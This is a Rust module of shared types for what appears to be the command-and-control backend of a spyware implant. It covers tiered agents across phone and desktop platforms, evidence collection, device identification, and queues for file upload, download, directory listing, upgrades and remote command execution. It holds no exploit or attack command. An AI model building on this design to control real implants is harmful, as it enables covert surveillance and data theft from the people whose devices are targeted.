//! Domain types shared by the gateway, the protocol and the workers.

use std::collections::HashMap;
use std::fmt;

use lazy_static::lazy_static;
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
pub enum Platform {
    Windows,
    Winmo,
    Osx,
    Ios,
    Blackberry,
    Symbian,
    Android,
    Linux,
    Winphone,
}

/// Index order is fixed by the scout wire format.
pub const SCOUT_PLATFORMS: [Platform; 9] = [
    Platform::Windows,
    Platform::Winmo,
    Platform::Osx,
    Platform::Ios,
    Platform::Blackberry,
    Platform::Symbian,
    Platform::Android,
    Platform::Linux,
    Platform::Winphone,
];

lazy_static! {
    static ref PLATFORM_NAMES: HashMap<&'static str, Platform> =
        SCOUT_PLATFORMS.iter().map(|p| (p.name(), *p)).collect();
}

impl Platform {
    pub fn name(&self) -> &'static str {
        match self {
            Platform::Windows => "WINDOWS",
            Platform::Winmo => "WINMO",
            Platform::Osx => "OSX",
            Platform::Ios => "IOS",
            Platform::Blackberry => "BLACKBERRY",
            Platform::Symbian => "SYMBIAN",
            Platform::Android => "ANDROID",
            Platform::Linux => "LINUX",
            Platform::Winphone => "WINPHONE",
        }
    }

    pub fn from_name(name: &str) -> Option<Self> {
        PLATFORM_NAMES.get(name.trim().to_ascii_uppercase().as_str()).copied()
    }

    pub fn from_index(index: u8) -> Option<Self> {
        SCOUT_PLATFORMS.get(index as usize).copied()
    }

    /// Symbian agents keep the cookie in a fixed 26 byte buffer.
    pub fn cookie_limit(&self) -> Option<usize> {
        match self {
            Platform::Symbian => Some(26),
            _ => None,
        }
    }
}

impl fmt::Display for Platform {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum AgentLevel {
    Scout,
    Soldier,
    Elite,
}

impl AgentLevel {
    pub fn from_byte(value: u8) -> Option<Self> {
        match value {
            0 => Some(AgentLevel::Scout),
            1 => Some(AgentLevel::Soldier),
            2 => Some(AgentLevel::Elite),
            _ => None,
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            AgentLevel::Scout => "scout",
            AgentLevel::Soldier => "soldier",
            AgentLevel::Elite => "elite",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AgentStatus {
    Unknown,
    Active,
    Queued,
    Deleted,
    Closed,
    NotFound,
}

impl AgentStatus {
    /// Agents in these states are told to uninstall and their evidence is dropped.
    pub fn is_terminal(&self) -> bool {
        matches!(
            self,
            AgentStatus::Deleted | AgentStatus::Closed | AgentStatus::NotFound
        )
    }
}

/// Answer of the central database to an agent status query.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StatusReply {
    pub status: AgentStatus,
    pub agent_id: Option<String>,
    pub good: bool,
}

impl StatusReply {
    pub fn unknown() -> Self {
        Self {
            status: AgentStatus::Unknown,
            agent_id: None,
            good: false,
        }
    }
}

/// Identity fields an agent presents during the handshake.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AgentIdentity {
    pub ident: String,
    pub instance: String,
    pub platform: Platform,
    pub demo: bool,
    pub level: AgentLevel,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SignatureKind {
    Agent,
    Network,
    Check,
    Crc,
    Sha1,
}

impl SignatureKind {
    pub const ALL: [SignatureKind; 5] = [
        SignatureKind::Agent,
        SignatureKind::Network,
        SignatureKind::Check,
        SignatureKind::Crc,
        SignatureKind::Sha1,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            SignatureKind::Agent => "agent",
            SignatureKind::Network => "network",
            SignatureKind::Check => "check",
            SignatureKind::Crc => "crc",
            SignatureKind::Sha1 => "sha1",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FactoryKey {
    pub key: String,
    pub good: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum QueueCategory {
    Config,
    Upload,
    Upgrade,
    Download,
    Filesystem,
    Exec,
}

impl QueueCategory {
    pub const ALL: [QueueCategory; 6] = [
        QueueCategory::Config,
        QueueCategory::Upload,
        QueueCategory::Upgrade,
        QueueCategory::Download,
        QueueCategory::Filesystem,
        QueueCategory::Exec,
    ];

    /// Also the cache table name.
    pub fn as_str(&self) -> &'static str {
        match self {
            QueueCategory::Config => "config",
            QueueCategory::Upload => "upload",
            QueueCategory::Upgrade => "upgrade",
            QueueCategory::Download => "download",
            QueueCategory::Filesystem => "filesystem",
            QueueCategory::Exec => "exec",
        }
    }

    /// Upgrades span several files; the remote copy goes only after the last one.
    pub fn defers_remote_delete(&self) -> bool {
        matches!(self, QueueCategory::Upgrade)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "lowercase")]
pub enum Payload {
    File { filename: String, content: Vec<u8> },
    Pattern { path: String },
    Listing { path: String, depth: u32 },
    Command { command: String },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct QueuedItem {
    pub id: String,
    pub payload: Payload,
}

/// One item popped from a queue plus how many are still waiting.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Taken {
    pub item: QueuedItem,
    pub remaining: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SubmitOutcome {
    Accepted,
    /// Empty or duplicate evidence; as good as accepted for local deletion.
    Conflict,
}

/// What the agent says about the device it runs on (IDENTIFY).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Identification {
    pub version: u32,
    pub user_id: String,
    pub device_id: String,
    pub source_id: String,
}

/// Synchronization record reported to the central database.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SyncInfo {
    pub ident: String,
    pub instance: String,
    pub platform: Platform,
    pub demo: bool,
    pub level: AgentLevel,
    pub agent_id: Option<String>,
    pub peer: String,
    pub sync_time: i64,
    pub identification: Option<Identification>,
    pub stats: SyncStats,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct SyncStats {
    pub total_items: u64,
    pub total_bytes: u64,
    pub transferred_items: u64,
    pub transferred_bytes: u64,
    pub started_at: Option<i64>,
    pub ended_at: Option<i64>,
    pub timed_out: bool,
}
